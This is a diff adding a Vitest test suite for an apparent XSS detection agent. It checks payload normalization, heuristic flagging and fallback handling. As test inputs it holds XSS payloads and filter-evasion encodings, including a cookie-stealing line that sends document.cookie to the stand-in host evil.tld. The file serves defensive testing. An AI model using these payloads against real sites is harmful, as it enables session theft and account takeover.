@@ -0,0 +1,177 @@
+import { describe, it, expect, vi, beforeEach } from 'vitest';
+import { XSSAgent } from '../../src/agents/XSSAgent';
+import { Env } from '../../src/types';
+
+describe('XSSAgent', () => {
+    let agent: XSSAgent;
+    let mockEnv: Env;
+
+    beforeEach(() => {
+        // Mock Environment
+        mockEnv = {
+            AI: {
+                run: vi.fn(),
+            } as any,
+            SENTINEL_KV: {} as any,
+            SENTINEL_WORKFLOW: {} as any,
+            DB: {} as any, // Mock D1 database
+            ENVIRONMENT: 'dev',
+            API_KEY: 'test-key',
+        };
+        agent = new XSSAgent(mockEnv);
+    });
+
+    describe('Layer 1: Normalization', () => {
+        it('should decode URL encoded payloads recursively', () => {
+            const payload = "%253Cscript%253Ealert(1)%253C%252Fscript%253E"; // Double encoded
+            expect(agent.normalize(payload)).toBe("<script>alert(1)</script>");
+        });
+
+        it('should decode named, decimal and hex HTML entities', () => {
+            expect(agent.normalize("&lt;img src=x&gt;")).toBe("<img src=x>");
+            expect(agent.normalize("&#60;svg&#62;")).toBe("<svg>");
+            expect(agent.normalize("&#x3C;svg&#x3e;")).toBe("<svg>");
+            expect(agent.normalize("javascript&colon;alert&lpar;1&rpar;")).toBe("javascript:alert(1)");
+        });
+
+        it('should decode entities without trailing semicolons', () => {
+            expect(agent.normalize("&#60script&#62")).toBe("<script>");
+        });
+
+        it('should decode JavaScript escapes', () => {
+            expect(agent.normalize("\\x3cscript\\x3e")).toBe("<script>");
+            expect(agent.normalize("\\u{3c}svg\\u{3e}")).toBe("<svg>");
+        });
+
+        it('should canonicalize tags and attributes', () => {
+            expect(agent.normalize("< ScRiPt >")).toBe("<script>");
+            expect(agent.normalize("<svg/onload = alert(1)>")).toBe("<svg onload=alert(1)>");
+        });
+
+        it('should re-join URI schemes split by whitespace', () => {
+            expect(agent.normalize("java\tscript:alert(1)")).toBe("javascript:alert(1)");
+        });
+
+        it('should remove null bytes and HTML comments', () => {
+            expect(agent.normalize("<scr\0ipt>")).toBe("<script>");
+            expect(agent.normalize("<img<!-- x --> src=x>")).toBe("<img src=x>");
+        });
+    });
+
+    describe('Layer 2: Heuristic Analysis', () => {
+        it('should detect script tags (Score > 50)', () => {
+            const { score, flags } = agent.heuristicAnalysis(agent.normalize("<script>alert('xss')</script>"));
+            expect(score).toBeGreaterThan(50);
+            expect(flags).toContain("Script Tag");
+        });
+
+        it('should detect event handlers', () => {
+            const { score, flags } = agent.heuristicAnalysis(agent.normalize("<img src=x onerror=alert(1)>"));
+            expect(score).toBeGreaterThan(50);
+            expect(flags).toContain("Event Handler");
+        });
+
+        it('should detect event handlers after an attribute breakout', () => {
+            const { score, flags } = agent.heuristicAnalysis(agent.normalize("\" onmouseover=\"alert(1)"));
+            expect(score).toBeGreaterThan(50);
+            expect(flags).toContain("Event Handler");
+        });
+
+        it('should detect javascript: URIs', () => {
+            const { score, flags } = agent.heuristicAnalysis(agent.normalize("<a href=\"javascript:alert(1)\">x</a>"));
+            expect(score).toBeGreaterThan(50);
+            expect(flags).toContain("JavaScript URI");
+        });
+
+        it('should detect SVG vectors', () => {
+            const { score, flags } = agent.heuristicAnalysis(agent.normalize("<svg/onload=alert(1)>"));
+            expect(score).toBeGreaterThan(50);
+            expect(flags).toContain("SVG/MathML Vector");
+            expect(flags).toContain("Event Handler");
+        });
+
+        it('should detect DOM sinks', () => {
+            const { flags } = agent.heuristicAnalysis(agent.normalize("document.location='//evil.tld/?c='+document.cookie"));
+            expect(flags).toContain("DOM Sink");
+        });
+
+        it('should score standard text low', () => {
+            const { score } = agent.heuristicAnalysis(agent.normalize("Hello world, this is a test comment."));
+            expect(score).toBe(0);
+        });
+    });
+
+    describe('Layer 3: AI Verification', () => {
+        it('should NOT call AI if heuristic score is low', async () => {
+            await agent.analyze("Just a normal search query");
+            expect(mockEnv.AI.run).not.toHaveBeenCalled();
+        });
+
+        it('should call AI if heuristic score is high', async () => {
+            (mockEnv.AI.run as any).mockResolvedValue({
+                response: JSON.stringify({
+                    attackType: "XSS",
+                    confidence: "High",
+                    riskScore: 92,
+                    explanation: "Inline script execution",
+                    action: "block"
+                })
+            });
+
+            const result = await agent.analyze("<script>alert(document.cookie)</script>");
+            expect(mockEnv.AI.run).toHaveBeenCalled();
+            expect(result.action).toBe("block");
+            expect(result.riskScore).toBe(92);
+        });
+
+        it('should handle AI JSON parsing errors gracefully (Fallback to Heuristics)', async () => {
+            (mockEnv.AI.run as any).mockResolvedValue({
+                response: "I am not a JSON object"
+            });
+
+            const result = await agent.analyze("<script>eval(location.hash)</script>");
+            expect(result.attackType).toContain("XSS (Heuristic Fallback)");
+            expect(result.action).toBe("block"); // Heuristic score was high enough
+        });
+    });
+
+    describe('Edge Cases & False Positives', () => {
+        it('should not flag formatting markup', () => {
+            const { score } = agent.heuristicAnalysis(agent.normalize("<p>Some <b>bold</b> and <i>italic</i> text</p>"));
+            expect(score).toBe(0);
+        });
+
+        it('should not flag prose mentioning online events', () => {
+            const payload = "Join us online=free, we will alert you when the script is ready";
+            const { score } = agent.heuristicAnalysis(agent.normalize(payload));
+            expect(score).toBeLessThanOrEqual(50);
+        });
+
+        it('should not flag HTML with class attributes', () => {
+            const payload = "<div class='select-wrapper'>Select an option from the dropdown</div>";
+            const { score } = agent.heuristicAnalysis(agent.normalize(payload));
+            expect(score).toBe(0);
+        });
+    });
+
+    describe('Red Team: Complex Obfuscation', () => {
+        it('should handle URL-encoded HTML entities', () => {
+            const payload = "%26lt%3Bscript%26gt%3Balert(1)%26lt%3B%2Fscript%26gt%3B";
+            const { flags } = agent.heuristicAnalysis(agent.normalize(payload));
+            expect(flags).toContain("Script Tag");
+        });
+
+        it('should handle entity-encoded javascript: schemes', () => {
+            const payload = "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">";
+            const { flags } = agent.heuristicAnalysis(agent.normalize(payload));
+            expect(flags).toContain("JavaScript URI");
+        });
+
+        it('should handle MathML vectors', () => {
+            const payload = "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>click";
+            const { score, flags } = agent.heuristicAnalysis(agent.normalize(payload));
+            expect(score).toBeGreaterThan(50);
+            expect(flags).toContain("SVG/MathML Vector");
+        });
+    });
+});